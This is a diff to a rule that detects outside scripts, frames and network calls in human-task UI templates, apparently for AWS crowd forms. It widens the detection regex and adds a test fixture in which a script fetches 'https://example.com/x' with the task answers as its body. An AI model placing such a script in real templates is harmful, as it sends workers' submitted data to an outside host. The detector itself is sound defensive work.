@@ -8,7 +8,7 @@ const page = (from: string) => ({
 
 /** What runs in the page, lies in it, or takes what is in it; `{{ }}` stands for an address given at run time. */
 const outside =
-    /(?:<(?:script|iframe|embed|form|crowd-form)\b[^>]*\s(?:src|action)\s*=|\bimport\b[^;"'<]*|\bimport\()\s*["']?((?:https?:)?\/\/[^"'\s>]+)/gi;
+    /(?:<(?:script|iframe|embed|form|crowd-form)\b[^>]*\s(?:src|action)\s*=|\bimport\b[^;"'<]*|\bimport\(|\b(?:fetch|sendBeacon|WebSocket|open)\((?:\s*["'][A-Z]+["']\s*,)?)\s*["'`]?((?:https?:|wss?:)?\/\/[^"'`\s>]+)/gi;
 
 export const humanTaskScripts = rule(
     {
@@ -38,6 +38,9 @@ export const humanTaskScripts = rule(
             "in plaintext": page("http://assets.crowd.aws/crowd-html-elements.js"),
             "a module's import": {
                 uiTemplate: { content: '<script type="module">import x from "https://esm.example.com/x"</script>' },
+            },
+            "data sent away": {
+                uiTemplate: { content: "<script>fetch('https://example.com/x', { body: answers })</script>" },
             },
             "a frame": { uiTemplate: { content: "<iframe src=//example.com/x></iframe>" } },
             "one that looks like AWS's": page("https://assets.crowd.aws.example.com/x.js"),
